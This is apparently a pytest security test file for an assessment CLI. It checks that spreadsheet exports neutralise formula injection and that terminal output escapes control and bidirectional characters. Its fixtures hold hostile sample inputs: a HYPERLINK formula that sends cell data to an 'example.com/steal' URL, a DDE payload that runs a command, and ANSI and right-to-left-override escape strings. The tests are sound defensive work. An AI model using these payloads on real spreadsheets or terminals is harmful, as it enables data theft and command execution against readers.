"""What leaves the program cannot be turned against its reader: spreadsheet text is never
a formula, and nothing the command line prints is obeyed by the terminal."""

from __future__ import annotations

import csv
import json
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from assessor.cli.terminal import json_text, safe
from assessor.exchange.spreadsheets import csv_cell
from assessor.store.database import Store
from tests.hostile.conftest import Cli, assert_terminal_safe

FORMULAS = [
    '=HYPERLINK("https://example.com/steal?d="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
]


@pytest.fixture
def roadmap_with_formulas(cli: Cli) -> Cli:
    for index, formula in enumerate(FORMULAS):
        added = cli(
            "roadmap-add", "1", "--title", formula, "--phase", "later",
            "--owner", FORMULAS[-1 - index], "--action", formula,
        )  # fmt: skip
        assert added.code == 0, added.err
    return cli


def test_xlsx_cells_that_look_like_formulas_are_text(roadmap_with_formulas: Cli) -> None:
    cli = roadmap_with_formulas
    path = cli.folder / "plan.xlsx"
    assert cli("roadmap", "1", "-o", str(path)).code == 0
    sheet = load_workbook(path).active
    assert sheet is not None
    rows = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
    for index, formula in enumerate(FORMULAS):
        title, owner = rows[f"CUSTOM-{index + 1}"][2], rows[f"CUSTOM-{index + 1}"][4]
        assert (title.value, title.data_type) == (formula, "s")
        assert (owner.value, owner.data_type) == (FORMULAS[-1 - index], "s")
    with zipfile.ZipFile(path) as book:
        xml = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in xml  # no formula anywhere in the sheet
    assert "<f " not in xml


def test_csv_cells_that_look_like_formulas_start_with_an_apostrophe(
    roadmap_with_formulas: Cli,
) -> None:
    cli = roadmap_with_formulas
    path = cli.folder / "plan.csv"
    assert cli("roadmap", "1", "-o", str(path)).code == 0
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = {row["Item"]: row for row in csv.DictReader(handle)}
    for index, formula in enumerate(FORMULAS):
        row = rows[f"CUSTOM-{index + 1}"]
        assert row["Title"] == "'" + formula
        assert row["Owner"] == "'" + FORMULAS[-1 - index]
        assert row["First actions"] == "'" + formula
    generated = rows["REC-GOV-POLICY"]
    assert generated["Owner"] == "Chief Risk Officer"  # ordinary text is left alone


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"),
        ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("a=1", "a=1"), ("", ""), (-1.5, -1.5),
        ("Chief Risk Officer", "Chief Risk Officer"),
    ],
)  # fmt: skip
def test_the_csv_rule(value: object, written: object) -> None:
    assert csv_cell(value) == written


ANSI = "Evil\x1b[31mRED\x1b[0m\x1b]0;owned\x07 \x9b2J \u202egnp.exe\r"


@pytest.fixture
def legacy_names(cli: Cli) -> Cli:
    """A client and assessment named with escape sequences before the limits held: written
    to the store directly, as an older version or another tool could have."""
    with Store(cli.db) as store, store.atomic():
        store.conn.execute("UPDATE clients SET name = ?", (ANSI,))
        store.conn.execute("UPDATE assessments SET title = ?", (ANSI,))
    return cli


SHOWN = "Evil\\x1b[31mRED\\x1b[0m\\x1b]0;owned\\x07 \\x9b2J"


@pytest.mark.parametrize(
    ("args", "shown"),
    [
        (["list"], SHOWN),  # clipped to the column
        (["score", "1"], f"{SHOWN} \\u202egnp.exe\\x0d: {SHOWN} \\u202egnp.exe\\x0d\n"),
        (["roadmap", "1"], "Now (0-3 months)"),
    ],
    ids=["list", "score", "roadmap"],
)
def test_names_print_with_their_escapes_shown_not_obeyed(
    legacy_names: Cli, args: list[str], shown: str
) -> None:
    result = legacy_names(*args)
    assert result.code == 0, result.err
    assert_terminal_safe(result.out)
    assert shown in result.out


def test_json_output_escapes_them_and_means_the_same(legacy_names: Cli) -> None:
    result = legacy_names("list", "--json")
    assert result.code == 0
    assert_terminal_safe(result.out)
    assert "\\u009b2J \\u202egnp.exe" in result.out
    assert json.loads(result.out)[0]["client"] == ANSI


def test_an_imported_name_keeps_its_text_and_loses_its_escapes(
    cli: Cli, demo_file: dict[str, object]
) -> None:
    demo_file["client"] = {"name": ANSI, "sector": "Insurance"}
    path = cli.folder / "ansi.json"
    path.write_text(json.dumps(demo_file), encoding="utf-8")
    assert cli("import", str(path)).out == "2\n"
    listed = json.loads(cli("list", "--json").out)
    assert listed[1]["client"] == "Evil[31mRED[0m]0;owned 2J \u202egnp.exe"


def test_errors_show_what_was_typed_escaped(cli: Cli) -> None:
    result = cli("score", "1", "--bogus\x1b[2J")
    result.refused(2, "No such option '--bogus\\x1b[2J'", "(see 'assessor score --help')")


@pytest.mark.parametrize("separator", ["\n", "\r", "\u2028", "\x85", "\x1c"])
def test_an_error_quoting_a_line_break_stays_on_one_line(cli: Cli, separator: str) -> None:
    """The fuzzer's find: an answer of "0\u20280" broke the error about it in two."""
    result = cli("answer", "1", "CMP-01", f"0{separator}0")
    result.refused(1, "CMP-01 takes one of")
    name = cli.folder / f"a{separator}b.json"
    cli("import", str(name)).refused(1, "no such file")


def test_the_terminal_rules() -> None:
    assert safe("a\nb\tc\x00\x7f\x85\u2066\u2028\udcff") == (
        "a\nb\\x09c\\x00\\x7f\\x85\\u2066\\u2028\\xff"
    )
    assert safe("Zoë — 株式会社 🤖") == "Zoë — 株式会社 🤖"
    assert json.loads(json_text({"k": "\x1b\x9b\u202e\u2028"})) == {"k": "\x1b\x9b\u202e\u2028"}
    assert_terminal_safe(json_text({"k": "\x1b\x9b\u202e"}))


def test_invalid_utf8_in_a_real_argument_is_refused_naming_it(tmp_path: Path) -> None:
    """Bytes, as a shell passes them, decoded by Python itself."""
    import os
    import subprocess
    import sys

    env = {**os.environ, "ASSESSOR_DB": str(tmp_path / "a.sqlite"),
           "ASSESSOR_DATA_DIR": str(tmp_path / "data"), "LC_ALL": "C.UTF-8"}  # fmt: skip
    ran = subprocess.run(
        [sys.executable, "-m", "assessor.cli", "answer", "1", "CMP-01", "l2", "--note",
         b"caf\xe9"],
        capture_output=True, env=env, check=False,
    )  # fmt: skip
    assert ran.returncode == 2
    assert ran.stdout == b""
    assert ran.stderr.decode("utf-8") == (
        "error: Invalid value for '--note': not UTF-8 text (the byte 0xe9 at character 4); "
        "type it again, or set the terminal to UTF-8 (see 'assessor answer --help')\n"
    )
